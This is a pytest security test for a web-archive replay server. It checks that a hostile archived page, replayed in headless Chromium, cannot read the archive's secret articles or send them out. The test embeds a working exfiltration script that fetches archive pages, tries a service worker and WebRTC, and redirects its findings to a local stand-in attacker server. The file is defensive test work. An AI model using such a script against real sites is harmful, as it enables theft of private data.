"""A hostile archived page, replayed in real headless Chromium, cannot read the archive.

The page's script does what an attacker's would: it fetches the archive's front page (which
lists a secret article), the archive's pages origin by its likely port, and another capture;
registers a service worker; opens a WebRTC connection to a STUN server (a UDP socket of the
test's); then navigates to the attacker's server with everything it got. The attacker's server
and the UDP socket record what reaches them.
"""

from __future__ import annotations

import io
import json
import socket
import threading
import urllib.parse
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from warcio.statusandheaders import StatusAndHeaders
from warcio.warcwriter import WARCWriter

from archiver.fsutil import atomic_write_text
from archiver.replay.rewrite import rewrite_html
from archiver.replay.server import ReplayServer, make_server
from archiver.replay.urls import ReplayUrls, replay_path
from archiver.store.catalog import Catalog
from archiver.store.cdxj import cdxj_text, index_warc
from archiver.store.layout import ArchiveLayout
from archiver.store.rows import ArticleRow
from tests.browser import chromium
from tests.support import raw_request, serving

SECRET_TITLE = "Minister resigns over leaked memo"
SECRET_TEXT = "the memo names the informant"
PAGE_URL = "http://news.example/exfil.html"
OTHER_URL = "http://news.example/secret.html"
WORKER_URL = "http://news.example/sw.js"
STAMP = "20261120093000"

EXFIL_SCRIPT = """
(async () => {
  const results = {};
  async function grab(name, url) {
    try {
      const response = await fetch(url);
      results[name] = "READ:" + (await response.text()).slice(0, 4000);
    } catch (e) { results[name] = "FAILED:" + e; }
  }
  await grab("front", "/");
  await grab("pages", location.protocol + "//" + location.hostname + ":"
                      + (Number(location.port) - 1) + "/");
  await grab("other", "/s/%(stamp)s/%(other)s");
  try {
    await navigator.serviceWorker.register("/s/%(stamp)sjs_/%(worker)s", {scope: "/s/"});
    results.worker = "REGISTERED";
  } catch (e) { results.worker = "FAILED:" + e; }
  try {
    const pc = new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:%(udp)d"}]});
    pc.createDataChannel("x");
    await pc.setLocalDescription(await pc.createOffer());
    results.webrtc = "CONNECTING";
  } catch (e) { results.webrtc = "FAILED:" + e; }
  try {
    localStorage.setItem("seen", "yes");
    results.storage = localStorage.getItem("seen");
  } catch (e) { results.storage = "FAILED:" + e; }
  location.href = "http://127.0.0.1:%(attacker)d/exfil?d=" + encodeURIComponent(
    JSON.stringify(results));
})();
"""


class Attacker(ThreadingHTTPServer):
    """The live web server a hostile page sends what it found to."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _AttackerHandler)
        self.received: list[str] = []
        self.arrived = threading.Event()


class _AttackerHandler(BaseHTTPRequestHandler):
    server: Attacker

    def do_GET(self) -> None:
        self.server.received.append(urllib.parse.unquote(self.path))
        self.server.arrived.set()
        self.send_response(204)
        self.end_headers()

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    with serving(Attacker()) as server:
        yield server


@pytest.fixture
def stun() -> Iterator[tuple[int, list[bytes]]]:
    """A UDP socket standing for a STUN server on the live web: (port, packets received)."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("127.0.0.1", 0))
    sock.settimeout(0.2)
    packets: list[bytes] = []
    stop = threading.Event()

    def listen() -> None:
        while not stop.is_set():
            try:
                packets.append(sock.recvfrom(4096)[0])
            except TimeoutError:
                continue

    thread = threading.Thread(target=listen, daemon=True)
    thread.start()
    yield sock.getsockname()[1], packets
    stop.set()
    thread.join(timeout=5)
    sock.close()


def _archive(root: Path, attacker_port: int, udp_port: int) -> None:
    """Collection "s": the hostile page, a second capture and a script; one secret article."""
    layout = ArchiveLayout(root)
    doc = {
        "id": "5ec2e75ec2e75ec2",
        "version": 1,
        "site": "s",
        "url": OTHER_URL,
        "title": SECRET_TITLE,
        "text": f"Today {SECRET_TEXT}.",
        "fetched_at": "2026-11-20T09:30:00Z",
        "word_count": 5,
        "is_article": True,
        "provenance": {"warc_record_id": "<urn:uuid:5ec2e7>"},
    }
    path = layout.article_path("s", doc["id"], doc["fetched_at"], 1)
    atomic_write_text(path, json.dumps(doc))
    with Catalog(layout.catalog_path) as catalog:
        catalog.add_article(ArticleRow.from_document(doc, path.relative_to(root).as_posix()))
        catalog.commit()
    script = EXFIL_SCRIPT % {
        "stamp": STAMP,
        "other": OTHER_URL,
        "worker": WORKER_URL,
        "udp": udp_port,
        "attacker": attacker_port,
    }
    html = f"<!doctype html><html><head><title>Hostile</title><script>{script}</script></head>"
    html += "<body><p>An ordinary looking story.</p></body></html>"
    secret = f"<html><body><h1>{SECRET_TITLE}</h1><p>{SECRET_TEXT}</p></body></html>"
    records = [
        (PAGE_URL, "text/html; charset=utf-8", html.encode()),
        (OTHER_URL, "text/html; charset=utf-8", secret.encode()),
        (
            WORKER_URL,
            "application/javascript",
            b"self.onfetch = e => e.respondWith(new Response(1))",
        ),
    ]
    warc_dir, index_dir = root / "warc" / "s", root / "indexes" / "s"
    warc_dir.mkdir(parents=True)
    index_dir.mkdir(parents=True)
    warc = warc_dir / "hostile.warc.gz"
    with warc.open("wb") as fh:
        writer = WARCWriter(fh, gzip=True)
        for url, content_type, body in records:
            http = StatusAndHeaders("200 OK", [("Content-Type", content_type)], "HTTP/1.1")
            record = writer.create_warc_record(
                url,
                "response",
                payload=io.BytesIO(body),
                http_headers=http,
                warc_headers_dict={"WARC-Date": "2026-11-20T09:30:00Z"},
            )
            writer.write_record(record)
            record.raw_stream.close()
    atomic_write_text(index_dir / "hostile.warc.gz.cdxj", cdxj_text(index_warc(warc, "s")))


def _server_on_neighbour_ports(root: Path) -> ReplayServer:
    """The replay server as `archiver replay` starts it: content on the port after the pages
    port (where an attacker would look for the archive's pages)."""
    for _ in range(20):
        with socket.socket() as probe:
            probe.bind(("127.0.0.1", 0))
            port = probe.getsockname()[1]
        try:
            server = make_server(root, port=port)
        except OSError:
            continue
        if server.content.port == port + 1:
            return server
        server.server_close()
    raise AssertionError("no two free neighbouring ports")


def test_a_hostile_page_reads_nothing_of_the_archive_and_sends_nothing_of_it(
    tmp_path: Path, attacker: Attacker, stun: tuple[int, list[bytes]]
) -> None:
    udp_port, packets = stun
    _archive(tmp_path, attacker.server_address[1], udp_port)
    with serving(_server_on_neighbour_ports(tmp_path)) as server, chromium() as (page, log):
        # The control: the archive's own pages do list the secret article.
        page.goto(f"{server.base_url}/", wait_until="load")
        assert SECRET_TITLE in page.inner_text("body")
        page.goto(server.base_url + replay_path("s", STAMP, PAGE_URL), wait_until="load")
        assert attacker.arrived.wait(30), "the hostile page never ran"
    (sent,) = attacker.received
    results = json.loads(sent.split("?d=", 1)[1])
    for name in ("front", "pages", "other"):
        assert results[name].startswith("FAILED:"), (name, results[name])
    assert results["worker"].startswith("FAILED:")
    assert results["webrtc"].startswith("FAILED:") and packets == []
    assert results["storage"] == "yes"  # scripts that expect storage get one, in memory
    assert SECRET_TITLE not in sent and SECRET_TEXT not in sent
    assert not any("Service-Worker" in url for url in log.requests)


# -- the two origins, without a browser ----------------------------------------------------------


@pytest.fixture
def served(tmp_path: Path) -> Iterator[ReplayServer]:
    _archive(tmp_path, 9, 9)
    with serving(make_server(tmp_path)) as server:
        yield server


def _get(port: int, target: str, host: str = "127.0.0.1") -> tuple[int, dict[str, str], bytes]:
    return raw_request(("127.0.0.1", port), target, [f"Host: {host}"])


def test_addresses_handed_out_lead_to_the_content_origin(served: ReplayServer) -> None:
    pages, content = served.port, served.content.port
    target = replay_path("s", STAMP, OTHER_URL)
    status, fields, _ = _get(pages, target)
    assert (status, fields["location"]) == (302, f"http://127.0.0.1:{content}{target}")
    # The host name the browser used is kept (a cookie-less origin of the same name).
    status, fields, _ = _get(pages, target, host=f"localhost:{pages}")
    assert (status, fields["location"]) == (302, f"http://localhost:{content}{target}")
    status, fields, body = _get(content, target)
    assert status == 200 and SECRET_TEXT.encode() in body
    assert "sandbox allow-scripts" in fields["content-security-policy"]
    assert "allow-same-origin" not in fields["content-security-policy"]


def test_the_archives_pages_are_not_served_on_the_content_origin(served: ReplayServer) -> None:
    pages, content = served.port, served.content.port
    for target in ("/", "/?q=memo", "/article/5ec2e75ec2e75ec2", f"/s/*/{OTHER_URL}"):
        status, fields, body = _get(content, target)
        assert (status, fields["location"]) == (302, f"http://127.0.0.1:{pages}{target}")
        assert SECRET_TITLE.encode() not in body
        assert _get(pages, target)[0] == 200, target


def test_a_capture_as_archived_runs_no_script(served: ReplayServer) -> None:
    target = replay_path("s", STAMP, PAGE_URL, "id_")
    status, fields, body = _get(served.content.port, target)
    assert status == 200 and b"RTCPeerConnection" in body  # as archived, unrewritten
    assert fields["content-security-policy"].endswith("; sandbox")  # no allow-scripts


@pytest.mark.parametrize(
    ("page", "expected"),
    [
        # After <head> when no script comes before it: an XHTML page stays well-formed.
        ("<html><head><script>a()</script></head></html>", "<html><head>PRE<script>a()"),
        (
            '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head/><body/></html>',
            '<html xmlns="http://www.w3.org/1999/xhtml"><head/>PRE<body/>',
        ),
        # A script before <head>, or no <head>: first thing after the doctype.
        ("<!DOCTYPE html><script>a()</script><head></head>", "<!DOCTYPE html>PRE<script>"),
        ("<p>no head<script>a()</script>", "PRE<p>no head"),
    ],
)
def test_the_prelude_comes_before_every_script_of_the_page(page: str, expected: str) -> None:
    out = rewrite_html(page, "http://news.example/", ReplayUrls("s", STAMP), prelude="P()")
    assert expected.replace("PRE", "<script>P()</script>") in out
    assert out.count("<script>P()</script>") == 1
